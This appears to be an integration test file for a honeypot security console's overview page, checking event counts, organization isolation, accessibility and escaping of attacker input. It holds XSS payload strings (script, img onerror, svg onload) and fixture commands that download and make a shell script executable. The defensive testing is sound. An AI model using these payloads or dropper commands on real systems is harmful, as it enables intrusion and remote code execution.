import { afterAll, beforeAll, expect, test } from "bun:test"
import { mkdtempSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { SqlClient } from "@effect/sql"
import { Effect } from "effect"
import { overviewStatements } from "../../src/console/ConsoleReads.ts"
import type { OrgId } from "../../src/domain/ids.ts"
import { AddressEnrichmentRepo } from "../../src/repos/AddressEnrichmentRepo.ts"
import { type Browser, launchBrowser, screenshot, seriousAccessibilityViolations } from "../support/browser.ts"
import { consoleUser, freePort, signedIn } from "../support/console.ts"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { addIgnoreRule, createOrg, createSensor } from "../support/fixtures.ts"
import { ingest, nativeEvent } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer, testEnv } from "../support/server.ts"

/**
 * The overview on the real server and database: events ingested through the real pipeline, countries written by the
 * enrichment's own repository. Its counts against what was sent (ignored events and another organization's left
 * out), the range switch, attacker text inert, the map only with countries, and the page in Chromium: no serious
 * accessibility violation, no CSP violation, the screenshot.
 */

const PASSWORD = "correct horse battery staple"
const RUN = Date.now().toString(36)
const HOSTILE_COMMAND = `<script>window.__xss="cmd"</script><img src=x onerror="window.__xss='img'">`
const HOSTILE_USER = `"><svg onload="window.__xss='user'">`
const shots = mkdtempSync(join(tmpdir(), "overview-shots-"))

let server: RunningServer
let db: TestDatabase
let consoleUrl: string
let browser: Browser
let acmeId: OrgId
const cookies: Record<string, string> = {}

const HOUR = 3_600_000
const ago = (ms: number) => new Date(Date.now() - ms).toISOString()

const cookiesOf = (res: Response) =>
  res.headers
    .getSetCookie()
    .map((c) => c.split(";")[0])
    .join("; ")

const signIn = async (email: string): Promise<string> => {
  const form = await fetch(`${consoleUrl}/sign-in`)
  const csrf = /name="csrf" value="([^"]+)"/.exec(await form.text())?.[1] ?? ""
  const res = await fetch(`${consoleUrl}/sign-in`, {
    method: "POST",
    redirect: "manual",
    headers: { cookie: cookiesOf(form), "content-type": "application/x-www-form-urlencoded", origin: consoleUrl },
    body: new URLSearchParams({ csrf, email, password: PASSWORD, next: "/" }),
  })
  expect(res.status).toBe(303)
  return res.headers
    .getSetCookie()
    .map((c) => c.split(";")[0])
    .filter((c) => c?.startsWith("__Host-session="))
    .join("; ")
}

const overview = async (who: string, query = "") => {
  const res = await fetch(`${consoleUrl}/${query}`, { headers: { cookie: cookies[who] ?? "" }, redirect: "manual" })
  expect(res.status).toBe(200)
  return res.text()
}

/** The text of an element's markup: tags dropped, the few entities the renderer writes read back. */
const textOf = (html: string) =>
  html
    .replace(/<[^>]+>/g, "")
    .replaceAll("&lt;", "<")
    .replaceAll("&gt;", ">")
    .replaceAll("&quot;", '"')
    .replaceAll("&#39;", "'")
    .replaceAll("&amp;", "&")
    .trim()

/** One chart's section (by its heading's id): the rows of its table view, each as its cells' text. */
const tableOf = (html: string, id: string): Array<Array<string>> => {
  const start = html.indexOf(`aria-labelledby="${id}"`)
  expect(start).toBeGreaterThan(-1)
  const section = html.slice(start, html.indexOf("</section>", start))
  const body = section.slice(section.indexOf("<tbody>"), section.indexOf("</tbody>"))
  return [...body.matchAll(/<tr>(.*?)<\/tr>/gs)].map((row) =>
    [...(row[1] ?? "").matchAll(/<td[^>]*>(.*?)<\/td>/gs)].map((cell) => textOf(cell[1] ?? "")),
  )
}
const sectionOf = (html: string, id: string) => {
  const start = html.indexOf(`aria-labelledby="${id}"`)
  return html.slice(start, html.indexOf("</section>", start))
}

const send = async (token: string, events: ReadonlyArray<Record<string, unknown>>) => {
  const res = await ingest(
    server.ingestUrl,
    "events",
    token,
    events.map((e) => nativeEvent(e)),
  )
  expect(res.status).toBe(200)
}

/** What the enrichment job writes for an address once its MMDB lookup is done: here, a country. */
const setCountry = (address: string, country: string) =>
  db.run(
    Effect.gen(function* () {
      const repo = yield* AddressEnrichmentRepo
      yield* repo.claim([address], false, "test-geo", 60)
      yield* repo.write({
        address,
        geo: { facts: { asn: 64500, asOrganization: "Example AS", country }, source: "test-geo" },
      })
    }).pipe(Effect.provide(AddressEnrichmentRepo.Default)),
  )

beforeAll(async () => {
  const port = freePort()
  consoleUrl = `http://127.0.0.1:${port}`
  server = await startServer({ env: await testEnv({ CONSOLE_PORT: String(port), APP_URL: consoleUrl }) })
  db = testDatabase(server.env)

  // Acme: a small, exactly known day and week.
  const acme = (await createOrg(db, `Acme ${RUN}`)).id
  acmeId = acme as OrgId
  const web = await createSensor(db, acme, "dmz-web-01", "generic")
  const mail = await createSensor(db, acme, "mail-02", "generic")
  await send(web.token, [
    { sourceIp: "203.0.113.10", time: ago(HOUR), attackerInput: { username: "root", password: "a" } },
    { sourceIp: "203.0.113.10", time: ago(HOUR), attackerInput: { username: "root", password: "b" } },
    { sourceIp: "203.0.113.10", time: ago(HOUR), attackerInput: { username: HOSTILE_USER, password: "c" } },
    {
      sourceIp: "198.51.100.20",
      time: ago(2 * HOUR),
      type: "ssh.command",
      attackerInput: { command: HOSTILE_COMMAND },
    },
    { sourceIp: "198.51.100.20", time: ago(2 * HOUR), type: "ssh.command", attackerInput: { command: "uname -a" } },
  ])
  // Inside the organization's networks (the default private ranges): counted, marked inside, never on the map.
  await send(mail.token, [
    { sourceIp: "10.1.2.3", time: ago(3 * HOUR), type: "http.request", attackerInput: { path: "/admin" } },
  ])
  // Three days ago: in the week, not in the day.
  await send(mail.token, [{ sourceIp: "203.0.113.30", time: ago(72 * HOUR), attackerInput: { username: "oracle" } }])
  // Ignored (a rule holds the address): not activity anywhere.
  await addIgnoreRule(db, acme, { source: "192.0.2.0/24", note: "our scanner" })
  await send(web.token, [
    { sourceIp: "192.0.2.9", time: ago(HOUR), attackerInput: { username: "ignored-user", password: "x" } },
    { sourceIp: "192.0.2.9", time: ago(HOUR), type: "ssh.command", attackerInput: { command: "ignored-command" } },
  ])
  await setCountry("203.0.113.10", "DE")
  await setCountry("198.51.100.20", "BR")
  await setCountry("10.1.2.3", "US")
  await setCountry("192.0.2.9", "FR")

  // Other Corp: the same address, its own events; none of them is Acme's.
  const other = (await createOrg(db, `Other ${RUN}`)).id
  const otherSensor = await createSensor(db, other, "other-01", "generic")
  await send(otherSensor.token, [
    { sourceIp: "203.0.113.10", time: ago(HOUR), attackerInput: { username: "other-user", password: "x" } },
    { sourceIp: "203.0.113.10", time: ago(HOUR), attackerInput: { username: "other-user", password: "y" } },
  ])

  // Quiet: an organization with no event at all.
  const quiet = (await createOrg(db, `Quiet ${RUN}`)).id

  // Northwind: a day of realistic traffic for the screenshot.
  const northwind = (await createOrg(db, `Northwind ${RUN}`)).id
  const sensors = await Promise.all(
    ["edge-ssh-01", "dmz-web-02", "db-decoy-03", "branch-smb-04"].map((n) => createSensor(db, northwind, n, "generic")),
  )
  const sources: ReadonlyArray<readonly [string, string, number]> = [
    ["45.155.205.99", "NL", 9],
    ["218.92.0.112", "CN", 8],
    ["61.177.172.45", "CN", 7],
    ["193.32.162.38", "RU", 6],
    ["185.220.101.4", "DE", 5],
    ["103.145.13.21", "VN", 4],
    ["179.43.180.108", "BR", 3],
    ["20.163.15.77", "US", 3],
    ["92.118.39.20", "RO", 2],
    ["122.165.88.4", "IN", 2],
    ["10.20.4.17", "", 1],
  ]
  const users = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "pi", "user", "git", "support"]
  const commands = ["uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.99/x.sh", "cd /tmp; chmod +x x.sh", "nproc"]
  let k = 0
  for (const [s, [ip, country, weight]] of sources.entries()) {
    const batch: Array<Record<string, unknown>> = []
    for (let i = 0; i < weight * 12; i++) {
      k++
      // Busier in the last hours, as a campaign builds up.
      const hoursAgo = Math.floor((23 * ((k * 7919) % 1000) ** 2) / 1_000_000)
      const at = ago(hoursAgo * HOUR + ((k * 104729) % 3_000_000))
      const kind = k % 9
      batch.push(
        kind < 5
          ? { sourceIp: ip, time: at, attackerInput: { username: users[(k * 3) % users.length], password: "x" } }
          : kind < 7
            ? { sourceIp: ip, time: at, type: "ssh.command", attackerInput: { command: commands[k % commands.length] } }
            : kind < 8
              ? { sourceIp: ip, time: at, type: "http.request", attackerInput: { path: "/wp-login.php" } }
              : { sourceIp: ip, time: at, type: "telnet.login_attempt", attackerInput: { username: "admin" } },
      )
    }
    await send(sensors[s % sensors.length]?.token ?? "", batch)
    if (country !== "") await setCountry(ip, country)
  }

  for (const [who, orgId] of [
    ["acme", acme],
    ["other", other],
    ["quiet", quiet],
    ["northwind", northwind],
  ] as const) {
    const email = `${who}-${RUN}@example.com`
    await consoleUser(server.env, consoleUrl, { orgId, email, role: "analyst", password: PASSWORD })
    cookies[who] = await signIn(email)
  }
  browser = await launchBrowser()
}, 120_000)

afterAll(async () => {
  await browser?.close()
  await shutdown(server, db)
})

test("the last 24 hours: each chart counts the organization's events of the day, ignored ones and other organizations' left out", async () => {
  const html = await overview("acme")
  expect(html).toContain("Activity, last 24 hours (UTC)")
  // Six events and four incidents began today (the ignored ones made none).
  expect(html).toMatch(/aria-label="Events per hour, last 24 hours: 6 in all, peak 3 at [^"]+; 3 new incidents"/)
  expect(tableOf(html, "ov-sources")).toEqual([
    ["203.0.113.10", "outside · DE", "3"],
    ["198.51.100.20", "outside · BR", "2"],
    ["10.1.2.3", "inside · US", "1"],
  ])
  // On the chart itself, beside each source: its country, or that it is inside.
  const sourcesChart = sectionOf(html, "ov-sources")
  expect(sourcesChart).toContain('<a href="/sources/203.0.113.10">203.0.113.10</a><span class="ov-mark">DE</span>')
  expect(sourcesChart).toContain('<a href="/sources/10.1.2.3">10.1.2.3</a><span class="ov-mark">inside</span>')
  expect(tableOf(html, "ov-sensors")).toEqual([
    ["dmz-web-01", "5"],
    ["mail-02", "1"],
  ])
  expect(tableOf(html, "ov-services")).toEqual([
    ["ssh/22", "5"],
    ["http/80", "1"],
  ])
  expect(tableOf(html, "ov-types")).toEqual([
    ["ssh.login_attempt", "SSH login attempt", "3"],
    ["ssh.command", "SSH shell command", "2"],
    ["http.request", "HTTP request", "1"],
  ])
  expect(tableOf(html, "ov-usernames")).toEqual([
    ["root search", "2"],
    [`${HOSTILE_USER} search`, "1"],
  ])
  expect(tableOf(html, "ov-commands")).toEqual([
    [`${HOSTILE_COMMAND} search`, "1"],
    ["uname -a search", "1"],
  ])
  // The map: outside sources only (the inside address's country is not counted), ignored ones left out.
  expect(tableOf(html, "ov-map")).toEqual([
    ["Germany", "DE", "3"],
    ["Brazil", "BR", "2"],
  ])
  expect(sectionOf(html, "ov-map")).toContain("<title>Germany: 3 events</title>")
  for (const absent of ["192.0.2.9", "ignored-user", "ignored-command", "other-user", "France"]) {
    expect(html).not.toContain(absent)
  }
  // Each source opens its page; attacker values open a search, URL-encoded.
  expect(html).toContain('href="/sources/203.0.113.10"')
  expect(html).toContain(`href="/events?q=${encodeURIComponent(HOSTILE_COMMAND).replaceAll("'", "&#39;")}"`)
  // Attacker text is inert: escaped wherever it is shown.
  expect(html).not.toContain("<script>window.__xss")
  expect(html).not.toContain("<svg onload")
  expect(html).not.toContain("<img src=x")
  expect(html).toContain("&lt;script&gt;window.__xss=&quot;cmd&quot;&lt;/script&gt;")
})

test("the range switch: 7 and 30 days by day, the week's older event counted; an unknown range is the day", async () => {
  const week = await overview("acme", "?range=7d")
  expect(week).toContain("Activity, last 7 days (UTC)")
  expect(week).toContain('<a href="/?range=7d" aria-current="page">7 days</a>')
  expect(week).toMatch(/aria-label="Events per day, last 7 days: 7 in all, peak \d at [0-9-]+; 4 new incidents"/)
  expect(tableOf(week, "ov-sources").map((r) => r[0])).toContain("203.0.113.30")
  expect(tableOf(week, "ov-usernames")).toContainEqual(["oracle search", "1"])
  expect(tableOf(week, "ov-activity").length).toBe(7)
  const month = await overview("acme", "?range=30d")
  expect(month).toContain("Activity, last 30 days (UTC)")
  expect(month.match(/<rect class="ov-bar"/g)?.length).toBeGreaterThanOrEqual(30)
  const bad = await overview("acme", "?range=%3Cscript%3E")
  expect(bad).toContain("Activity, last 24 hours (UTC)")
  expect(bad).toContain('<a href="/?range=24h" aria-current="page">24 hours</a>')
})

test("another organization sees only its own events of the same address", async () => {
  const html = await overview("other")
  expect(tableOf(html, "ov-sources")).toEqual([["203.0.113.10", "outside · DE", "2"]])
  expect(tableOf(html, "ov-usernames")).toEqual([["other-user search", "2"]])
  expect(html).not.toContain("198.51.100.20")
})

test("no events: every chart says so, and the map says enrichment is off and how to turn it on", async () => {
  const html = await overview("quiet")
  expect(html).toMatch(/aria-label="Events per hour, last 24 hours: none"/)
  for (const id of ["ov-sources", "ov-sensors", "ov-services", "ov-types"]) {
    expect(sectionOf(html, id)).toContain("No events in the last 24 hours.")
  }
  expect(sectionOf(html, "ov-usernames")).toContain("No username was tried in the last 24 hours.")
  expect(sectionOf(html, "ov-commands")).toContain("No command was run in the last 24 hours.")
  const map = sectionOf(html, "ov-map")
  expect(map).not.toContain("<svg")
  expect(map).toContain("enrichment is off")
  expect(map).toContain("<code>MMDB_COUNTRY_FILE</code>")
})

test("in Chromium: accessible, no CSP violation, attacker text never runs, the range links work; the screenshot", async () => {
  const { page, watch } = await signedIn(browser, consoleUrl, `acme-${RUN}@example.com`, PASSWORD)
  await page.goto(`${consoleUrl}/`)
  expect(await page.locator("h1").textContent()).toBe("Overview")
  expect(await seriousAccessibilityViolations(page)).toEqual([])
  // The table views open and show attacker text as text.
  await page.click("section[aria-labelledby=ov-commands] summary:has-text('Table view')")
  expect(await page.locator("section[aria-labelledby=ov-commands] table").textContent()).toContain(HOSTILE_COMMAND)
  expect(await seriousAccessibilityViolations(page)).toEqual([])
  await Promise.all([page.waitForNavigation(), page.click("nav.ov-ranges >> text=7 days")])
  expect(page.url()).toBe(`${consoleUrl}/?range=7d`)
  expect(await page.locator("#ov-activity").textContent()).toBe("Activity, last 7 days (UTC)")
  expect(await seriousAccessibilityViolations(page)).toEqual([])
  expect(await page.evaluate(() => (globalThis as unknown as { __xss?: string }).__xss)).toBeUndefined()
  expect(watch.violations).toEqual([])
  expect(watch.errors).toEqual([])
  await page.context().close()

  const shot = await signedIn(browser, consoleUrl, `northwind-${RUN}@example.com`, PASSWORD)
  const northwind = shot.page
  await northwind.goto(`${consoleUrl}/`)
  expect(await northwind.locator("section[aria-labelledby=ov-map] svg path.ov-hit").count()).toBe(9)
  expect(await seriousAccessibilityViolations(northwind)).toEqual([])
  expect(shot.watch.violations).toEqual([])
  expect(shot.watch.errors).toEqual([])
  await screenshot(northwind, "overview", shots)
  // A phone's width: the charts stack in one column and nothing is wider than the screen.
  await northwind.setViewportSize({ width: 390, height: 844 })
  await northwind.goto(`${consoleUrl}/?range=7d`)
  const overflow = await northwind.evaluate(
    () =>
      (globalThis as unknown as { document: { documentElement: { scrollWidth: number } }; innerWidth: number }).document
        .documentElement.scrollWidth - (globalThis as unknown as { innerWidth: number }).innerWidth,
  )
  expect(overflow).toBeLessThanOrEqual(0)
  expect(await seriousAccessibilityViolations(northwind)).toEqual([])
  await northwind.context().close()
}, 120_000)

test("every read is planned on an index: no sequential scan of events or incidents, whatever the range", async () => {
  const plans = await db.run(
    Effect.gen(function* () {
      const sql = yield* SqlClient.SqlClient
      const read = overviewStatements(sql)
      const plans: Array<[string, string]> = []
      for (const [days, unit] of [
        [1, "hour"],
        [30, "day"],
      ] as const) {
        const from = new Date(Date.now() - days * 86_400_000)
        const statements = [
          ["events over time", read.eventsOverTime(acmeId, from, unit)],
          ["new incidents over time", read.incidentsOverTime(acmeId, from, unit)],
          ["top sources", read.topSources(acmeId, from)],
          ["top sensors", read.topSensors(acmeId, from)],
          ["services and ports", read.topServices(acmeId, from)],
          ["event types", read.topTypes(acmeId, from)],
          ["usernames", read.topAttackerValues(acmeId, from, "username")],
          ["commands", read.topAttackerValues(acmeId, from, "command")],
          ["countries", read.eventsByCountry(acmeId, from, ["10.0.0.0/8"])],
          ["open by severity", read.openBySeverity(acmeId)],
        ] as const
        for (const [name, statement] of statements) {
          const [text, params] = statement.compile()
          const plan = yield* sql.withTransaction(
            Effect.gen(function* () {
              // Sequential scans priced out: a plan shows one only where no index can serve the read at all.
              yield* sql`set local enable_seqscan = off`
              const rows = yield* sql.unsafe<Record<string, string>>(`explain ${text}`, params)
              return rows.map((r) => Object.values(r)[0]).join("\n")
            }),
          )
          plans.push([`${name}, ${days} d`, plan])
        }
      }
      return plans
    }),
  )
  expect(plans.length).toBe(20)
  for (const [name, plan] of plans) {
    expect({ name, seqScan: /Seq Scan on (events|incidents)/.test(plan) }).toEqual({ name, seqScan: false })
  }
})
